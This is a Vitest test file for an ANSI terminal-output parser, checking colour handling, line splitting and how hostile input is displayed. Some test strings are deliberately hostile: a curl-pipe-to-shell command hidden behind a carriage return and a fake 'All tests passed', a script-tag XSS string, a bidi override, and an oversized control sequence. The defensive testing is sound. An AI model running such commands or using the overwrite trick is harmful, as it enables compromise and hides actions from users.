import { describe, expect, it } from 'vitest'
import { ansiLines, lineText, segmentClass } from './ansi'

describe('ansi output', () => {
  it('splits lines and keeps colours as names, carrying a style across lines', () => {
    const lines = ansiLines('plain \x1b[1;31mred bold\nstill red\x1b[0m done\n')
    expect(lines).toHaveLength(2)
    expect(lines[0]).toEqual([{ text: 'plain ' }, { text: 'red bold', fg: 'red', bold: true }])
    expect(lines[1]).toEqual([{ text: 'still red', fg: 'red', bold: true }, { text: ' done' }])
  })

  it('folds bright colours and palette 0–15 onto the eight names, and drops colours without a token', () => {
    const [line] = ansiLines('\x1b[92mok\x1b[0m \x1b[38;5;9mbad\x1b[0m \x1b[38;5;200mpink\x1b[0m \x1b[38;2;1;2;3mtrue\x1b[0m \x1b[42mbg\x1b[0m')
    expect(line).toEqual([
      { text: 'ok', fg: 'green' },
      { text: ' ' },
      { text: 'bad', fg: 'red' },
      { text: ' ' },
      { text: 'pink' },
      { text: ' ' },
      { text: 'true' },
      { text: ' ' },
      { text: 'bg', bg: 'green' }
    ])
  })

  it('takes CRLF as LF but keeps every other \\r in the line: what a terminal would overwrite is not hidden', () => {
    expect(ansiLines('progress 10%\rprogress 100%\nnext\r\nlast').map(lineText)).toEqual(['progress 10%\rprogress 100%', 'next', 'last'])
    expect(ansiLines('curl -s x.example/p.sh | sh\r\x1b[32mAll tests passed\x1b[0m\n').map(lineText)).toEqual(['curl -s x.example/p.sh | sh\rAll tests passed'])
  })

  it('leaves in the text what anser does not consume (an OSC, a lone ESC, bidi controls), for the console to show escaped', () => {
    expect(ansiLines('a\x1b]0;title\x07b \x1bX \u202eevil').map(lineText)).toEqual(['a\x1b]0;title\x07b \x1bX \u202eevil'])
  })

  it('drops other escape sequences and never leaves markup: angle brackets stay text', () => {
    const lines = ansiLines('\x1b[2K<script>alert(1)</script>\x1b[0m')
    expect(lines.map(lineText)).toEqual(['<script>alert(1)</script>'])
  })

  it('keeps empty lines in the middle and no phantom line at the end', () => {
    expect(ansiLines('a\n\nb\n').map(lineText)).toEqual(['a', '', 'b'])
    expect(ansiLines('')).toEqual([[]])
  })

  it('names the classes of a styled run', () => {
    expect(segmentClass({ text: 'x', fg: 'red', bg: 'black', bold: true, underline: true })).toBe('ansi-fg-red ansi-bg-black ansi-bold ansi-underline')
    expect(segmentClass({ text: 'x' })).toBeUndefined()
  })

  it('drops a control sequence with an absurd parameter list (quadratic in anser) and keeps the text around it', () => {
    const hostile = `before\x1b[${';'.repeat(128 * 1024)}mafter\n\x1b[31mred\x1b[0m`
    const lines = ansiLines(hostile)
    expect(lines.map((line) => line.map((segment) => segment.text).join(''))).toEqual(['beforeafter', 'red'])
    expect(lines[1]![0]!.fg).toBe('red')
  })
})
